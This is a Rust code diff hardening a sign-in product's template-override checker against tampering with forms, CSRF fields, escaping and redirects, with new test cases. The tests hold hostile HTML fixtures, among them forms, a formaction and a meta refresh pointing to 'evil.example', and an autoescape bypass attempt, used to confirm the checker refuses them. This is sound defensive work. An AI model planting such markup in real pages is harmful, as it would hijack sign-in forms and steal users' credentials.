@@ -37,12 +37,20 @@ impl fmt::Display for Problem {
 }
 
 static SAFE: LazyLock<Regex> =
-    LazyLock::new(|| Regex::new(r"\|\s*safe\b|\{%-?\s*filter\s+safe\b").expect("static regex"));
+    LazyLock::new(|| Regex::new(r"\|\s*safe\b|\{%[-+]?\s*filter\s+safe\b").expect("static regex"));
 static AUTOESCAPE: LazyLock<Regex> =
-    LazyLock::new(|| Regex::new(r"\{%-?\s*autoescape\b").expect("static regex"));
+    LazyLock::new(|| Regex::new(r"\{%[-+]?\s*autoescape\b").expect("static regex"));
+// A load statement: its keyword, then the rest of the tag.
 static LOADS: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"\{%-?\s*(include|import|from|extends)\s+("([^"]*)"|'([^']*)'|\S+)"#)
+    Regex::new(r"\{%[-+]?\s*(include|import|from|extends)\b((?:[^%]|%[^}])*)%\}")
         .expect("static regex")
+});
+// What a load may say after its keyword: one quoted name, then only the fixed clauses.
+static LOAD_TARGET: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"^\s*(?:"([^"]*)"|'([^']*)')\s*(?:ignore missing|with context|without context|as \w+|import [\w\s,]+)?\s*[-+]?$"#,
+    )
+    .expect("static regex")
 });
 
 fn line_at(source: &str, offset: usize) -> usize {
@@ -89,10 +97,15 @@ pub fn check_overrides(overrides: &BTreeMap<String, String>) -> Vec<Problem> {
         }
         for c in LOADS.captures_iter(source) {
             let line = Some(line_at(source, c.get(0).map_or(0, |m| m.start())));
-            let Some(target) = c.get(3).or_else(|| c.get(4)).map(|m| m.as_str()) else {
+            let rest = c.get(2).map_or("", |m| m.as_str());
+            let target = LOAD_TARGET
+                .captures(rest)
+                .and_then(|t| t.get(1).or_else(|| t.get(2)))
+                .map(|m| m.as_str());
+            let Some(target) = target else {
                 problem(
                     line,
-                    "include, import, from and extends take a quoted template name".into(),
+                    "include, import, from and extends take one quoted template name".into(),
                 );
                 continue;
             };
@@ -124,6 +137,8 @@ pub fn check_overrides(overrides: &BTreeMap<String, String>) -> Vec<Problem> {
     }
     let english = crate::i18n::Locales::build(&BTreeMap::new(), crate::i18n::FALLBACK);
     let words = english.default_translator();
+    // A fresh token each check, so an override cannot single out the sample.
+    let csrf = format!("sample-{:032x}", rand::random::<u128>());
     for name in overrides.keys().filter(|n| !broken.contains(n)) {
         let Some(component) = components::find(name) else {
             continue;
@@ -141,7 +156,7 @@ pub fn check_overrides(overrides: &BTreeMap<String, String>) -> Vec<Problem> {
                     });
                 }
             };
-            let context = sample_context(&state.values, words);
+            let context = context_with(&state.values, words, &csrf);
             match render(&env, target, context) {
                 Err(RenderError::TooLarge) => add(
                     None,
@@ -170,7 +185,7 @@ pub fn check_overrides(overrides: &BTreeMap<String, String>) -> Vec<Problem> {
                     add(line, message);
                 }
                 Ok(output) => {
-                    for message in output_problems(&output, &state.forms, component.name) {
+                    for message in output_problems(&output, &state.forms, component.name, &csrf) {
                         add(None, message);
                     }
                     for message in missing(&output, &state.shows) {
@@ -193,6 +208,10 @@ fn describe(e: &minijinja::Error) -> String {
 /// What every page receives, with a sample CSRF token, plus `values` (a component state's
 /// variables): what the checks, the `/dev/theme` preview and the render benchmark use.
 pub fn sample_context(values: &serde_json::Value, words: &crate::i18n::Translator) -> Value {
+    context_with(values, words, SAMPLE_CSRF)
+}
+
+fn context_with(values: &serde_json::Value, words: &crate::i18n::Translator, csrf: &str) -> Value {
     let base = context! {
         lang => words.locale(),
         dir => words.dir().as_str(),
@@ -203,24 +222,62 @@ pub fn sample_context(values: &serde_json::Value, words: &crate::i18n::Translato
         page => "sign_in",
         product => "Vestibule",
         stylesheet_url => "/assets/vestibule.css?v=sample",
-        csrf_token => SAMPLE_CSRF,
+        csrf_token => csrf,
     };
     context! { ..Value::from(minijinja::value::Serde(values)), ..base }
 }
 
 /// What `output` lacks of `forms`, or does that no component may.
-fn output_problems(output: &str, forms: &[FormRule], component: &str) -> Vec<String> {
+fn output_problems(output: &str, forms: &[FormRule], component: &str, csrf: &str) -> Vec<String> {
     let tags = html::tags(output);
     let mut problems = Vec::new();
-    for tag in tags.iter().filter(|t| !t.end) {
-        if tag.name == "base" {
-            problems.push("a <base> element is refused: it would move where forms post".into());
+    let mut open_form = false;
+    for tag in &tags {
+        if tag.name == "form" {
+            if !tag.end && open_form {
+                problems.push(
+                    "a <form> inside a <form> is refused: browsers drop the inner one".into(),
+                );
+            }
+            open_form = !tag.end;
         }
-        if tag.attribute("formaction").is_some() {
-            problems.push(format!(
-                "a formaction attribute on <{}> is refused: it would move where the form posts",
-                tag.name
-            ));
+        if tag.end {
+            continue;
+        }
+        match tag.name.as_str() {
+            "base" => {
+                problems.push("a <base> element is refused: it would move where forms post".into())
+            }
+            "template" | "noscript" | "textarea" | "iframe" | "object" | "embed" => problems.push(
+                format!("a <{}> element is refused in an override", tag.name),
+            ),
+            "meta" if tag.attribute("http-equiv").is_some() => {
+                problems.push("<meta http-equiv> is refused: it could redirect the page".into());
+            }
+            "script" if component != "layout" => {
+                problems.push("a <script> element is refused outside the layout".into())
+            }
+            _ => {}
+        }
+        for (name, _) in &tag.attributes {
+            if name.starts_with("form") && name.len() > 4 || name == "form" {
+                problems.push(format!(
+                    "a {name} attribute on <{}> is refused: it would change where or how a form \
+                     posts",
+                    tag.name
+                ));
+            }
+        }
+    }
+    let allowed: Vec<&str> = forms.iter().map(|f| f.action.as_str()).collect();
+    if component != "layout" {
+        for (form, _) in forms_in(&tags) {
+            let action = form.attribute("action").unwrap_or_default();
+            if !allowed.contains(&action) {
+                problems.push(format!(
+                    "a form posting to {action:?} is refused: {component}'s forms post to {allowed:?}"
+                ));
+            }
         }
     }
     for rule in forms {
@@ -247,10 +304,12 @@ fn output_problems(output: &str, forms: &[FormRule], component: &str) -> Vec<Str
         let input = |name: &str| inputs.iter().find(|i| i.attribute("name") == Some(name));
         let hidden_is = |name: &str, value: &str| {
             input(name).is_some_and(|i| {
-                i.attribute("type") == Some("hidden") && i.attribute("value") == Some(value)
+                i.attribute("type")
+                    .is_some_and(|t| t.eq_ignore_ascii_case("hidden"))
+                    && i.attribute("value") == Some(value)
             })
         };
-        if !hidden_is("csrf_token", SAMPLE_CSRF) {
+        if !hidden_is("csrf_token", csrf) {
             problems.push(format!(
                 "the form posting to {action} lost its CSRF field: keep \
                  <input type=\"hidden\" name=\"csrf_token\" value=\"{{{{ csrf_token }}}}\">"
@@ -273,7 +332,7 @@ fn output_problems(output: &str, forms: &[FormRule], component: &str) -> Vec<Str
                 continue;
             };
             let kind = found.attribute("type").unwrap_or("text");
-            if kind != wanted.kind {
+            if !kind.eq_ignore_ascii_case(wanted.kind) {
                 problems.push(format!(
                     "input {} must keep type=\"{}\" (it has type=\"{kind}\")",
                     wanted.name, wanted.kind
@@ -436,6 +495,38 @@ mod tests {
                 sign_in_form("<button", "<button formaction=\"https://evil.example/\""),
                 "formaction",
             ),
+            (
+                sign_in_form("<button", "<button formmethod=\"get\""),
+                "formmethod",
+            ),
+            (
+                format!(
+                    "<form method=\"get\" action=\"/sign-in\">{}",
+                    sign_in_form("", "")
+                ),
+                "a <form> inside a <form>",
+            ),
+            (
+                sign_in_form(
+                    "</form>",
+                    "</form><form method=\"post\" action=\"https://evil.example/\"></form>",
+                ),
+                "a form posting to \"https://evil.example/\" is refused",
+            ),
+            (
+                sign_in_form(
+                    "</form>",
+                    "</form><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+                ),
+                "<meta http-equiv> is refused",
+            ),
+            (
+                sign_in_form(
+                    "</form>",
+                    "</form><template><form method=post action=/sign-in></form></template>",
+                ),
+                "a <template> element is refused",
+            ),
         ];
         for (source, wanted) in cases {
             assert_refused(&problems("sign-in.form", &source), wanted);
@@ -461,8 +552,37 @@ mod tests {
         );
         assert_refused(
             &problems("sign-in.form", "{% include name %}"),
-            "take a quoted template name",
+            "take one quoted template name",
         );
+        assert_refused(
+            &problems(
+                "sign-in.form",
+                "{%+ autoescape false %}{{ email }}{% endautoescape %}",
+            ),
+            "`autoescape` blocks are refused",
+        );
+        assert_refused(
+            &problems("sign-in.form", "{% include\"account.html\" %}"),
+            "\"account.html\" cannot be loaded",
+        );
+        assert_refused(
+            &problems(
+                "sign-in.form",
+                "{% include \"macros.html\" if email else \"account.html\" %}",
+            ),
+            "take one quoted template name",
+        );
+        // Escaped input stays escaped: `replace` yields text, not markup.
+        let unescape = "{% set lt %}<{% endset %}{% set e %}{{ email }}{% endset %}{{ e|replace(\"&lt;\", lt) }}";
+        let overrides = BTreeMap::from([("sign-in.form".to_owned(), unescape.to_owned())]);
+        let (env, _) = environment(&overrides);
+        let out = render(
+            &env,
+            "sign-in.form",
+            context! { email => "<script>", t => Words::value(crate::i18n::english()) },
+        )
+        .expect("renders");
+        assert!(!out.contains("<script>"), "{out}");
         assert_refused(
             &problems("sign-in.form", "<form>\n{% if %}\n</form>"),
             "line 2: does not parse",
